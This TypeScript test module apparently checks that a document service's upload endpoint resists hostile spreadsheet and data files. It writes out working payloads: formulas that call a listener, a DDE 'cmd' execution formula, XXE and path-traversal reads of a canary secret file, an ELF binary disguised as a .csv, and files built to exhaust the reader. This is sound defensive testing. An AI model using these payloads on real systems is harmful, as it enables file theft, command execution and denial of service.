/** Data files that exhaust their reader, or that a spreadsheet program would compute or load something for. */
import type { Attack } from "#test/security/attack/attack.ts";
import { holds, isAccepted, refusal } from "#test/security/attack/attack.ts";
import { createTemplate, upload } from "#test/security/attack/make-documents.ts";
import type { Target } from "#test/security/attack/target.ts";
import { HOSTILE_FILES } from "#test/support/hostile-data-files.ts";
import { odsOf, rows, xlsx } from "#test/support/spreadsheets.ts";

/** Formulas that fetch, run or read where they are computed. */
const FORMULAS = (target: Target): readonly string[] => [
  `WEBSERVICE("${target.listener.address("/webservice")}")`,
  `IMAGE("${target.listener.address("/image.png")}")`,
  `HYPERLINK("${target.listener.address("/link")}","x")`,
  "cmd|'/C calc'!A0",
  `'file://${target.canaryFolder}/[secret.txt]x'!A1`,
  `INFO("directory")`,
];

const OTHERS: Readonly<Record<string, (target: Target) => readonly [filename: string, bytes: Uint8Array]>> = {
  "formulas of an .xlsx with what they gave last": (target) => {
    const cells = FORMULAS(target).map((formula) => ({
      xml: `<c t="str"><f>${escaped(formula)}</f><v>last</v></c>`,
    }));
    return ["data.xlsx", xlsx({ sheets: { Data: rows(["Name"], ...cells.map((cell) => [cell])) } })];
  },
  "links of an .xlsx to other workbooks": (target) => {
    const address = target.listener.address("/other.xlsx");
    const parts = {
      "xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>`,
      "xl/externalLinks/_rels/externalLink1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${address}" TargetMode="External"/></Relationships>`,
      "xl/connections.xml": `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" refreshOnLoad="1" type="4"><webPr url="${address}"/></connection></connections>`,
    };
    return ["data.xlsx", xlsx({ sheets: { Data: rows(["Name"], ["Ada"]) }, parts })];
  },
  "a sheet of an .xlsx that lies elsewhere": (target) => {
    const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="${target.listener.address("/sheet.xml")}" TargetMode="External"/></Relationships>`;
    return [
      "data.xlsx",
      xlsx({ sheets: { Data: rows(["Name"], ["Ada"]) }, parts: { "xl/_rels/workbook.xml.rels": relations } }),
    ];
  },
  "a sheet of an .xlsx by a path upwards": ({ canaryFolder }) => {
    const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="../../../../../../..${canaryFolder}/secret.txt"/></Relationships>`;
    return [
      "data.xlsx",
      xlsx({ sheets: { Data: rows(["Name"], ["Ada"]) }, parts: { "xl/_rels/workbook.xml.rels": relations } }),
    ];
  },
  "a table of an .ods whose source lies elsewhere": (target) => [
    "data.ods",
    odsOf(
      `<office:body><office:spreadsheet><table:table table:name="Data"><table:table-source xlink:href="${target.listener.address("/a.ods")}" xmlns:xlink="http://www.w3.org/1999/xlink"/><table:table-row><table:table-cell table:formula='of:=WEBSERVICE("${target.listener.address("/ods")}")'><text:p>Name</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell><text:p>Ada</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>`,
    ),
  ],
  "formulas of a .csv": (target) => [
    "data.csv",
    Buffer.from(
      `Name\n${FORMULAS(target)
        .map((formula) => `"=${formula.replaceAll('"', '""')}"`)
        .join("\n")}\n`,
    ),
  ],
  "an .xls that is HTML": (target) => [
    "data.xls",
    Buffer.from(
      `<html><link rel="stylesheet" href="${target.listener.address("/a.css")}"><table><tr><td>Name<tr><td>Ada</table></html>`,
    ),
  ],
  "an .xls that is XML of 2003 with an entity": ({ canaryFolder }) => [
    "data.xls",
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://${canaryFolder}/secret.txt">]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&a;</Data></Cell></Row></Table></Worksheet></Workbook>`,
    ),
  ],
  "an .xls whose chain of sectors is a loop": () => ["data.xls", loopingCompoundFile()],
  "a program under the name of a .csv": () => [
    "data.csv",
    Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(1_000)]),
  ],
  "a .csv of one quotation mark and 20 MB": () => ["data.csv", Buffer.from(`"${"a,".repeat(10_000_000)}`)],
  "a .csv with 200,000 columns": () => [
    "data.csv",
    Buffer.from(`${Array.from({ length: 200_000 }, (_, n) => `c${n}`).join(",")}\n1\n`),
  ],
  "a .tsv of NUL bytes": () => ["data.tsv", Buffer.alloc(5_000_000)],
};

export const DATA_FILE_ATTACKS: readonly Attack[] = [
  ...HOSTILE_FILES.map(({ what, filename, make }) => attack(what, "to exhaust the reader", () => [filename, make()])),
  ...Object.entries(OTHERS).map(([name, make]) => attack(name, "to have something computed, loaded or run", make)),
];

function attack(
  name: string,
  tried: string,
  make: (target: Target) => readonly [filename: string, bytes: Uint8Array],
): Attack {
  return {
    category: "data files",
    name,
    tried,
    async run(target) {
      const [filename, bytes] = make(target);
      const template_id = await createTemplate(target, upload("{{Name}}", "a.txt"));
      const fields = { template_id, file: upload(bytes, filename), output_format: ".txt" };
      const answer = await target.postForm("/v1/document", fields);
      if (!isAccepted(answer)) return refusal(answer);
      holds(Number(answer.json().data_length) > 0, "a document of no data");
      return "its values are what the file displays";
    },
  };
}

function escaped(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
}

/** A compound file (MS-CFB 2.3) whose directory follows itself. */
function loopingCompoundFile(): Buffer {
  const file = Buffer.alloc(512 * 3);
  file.write("d0cf11e0a1b11ae1", "hex");
  for (const [at, value] of [
    [24, 0x3e],
    [26, 3],
    [28, 0xfffe],
    [30, 9],
    [32, 6],
    [44, 1],
    [48, 1],
    [56, 4096],
    [60, 1],
    [64, 1],
    [68, 1],
    [72, 1],
  ] as const) {
    file.writeUInt16LE(value, at);
  }
  file.fill(0xff, 76, 512);
  file.writeUInt32LE(0, 76);
  // Every sector is followed by the second one.
  for (let at = 512; at < 1024; at += 4) file.writeUInt32LE(1, at);
  file.write("Root Entry\0Workbook", 1024, "utf16le");
  return file;
}
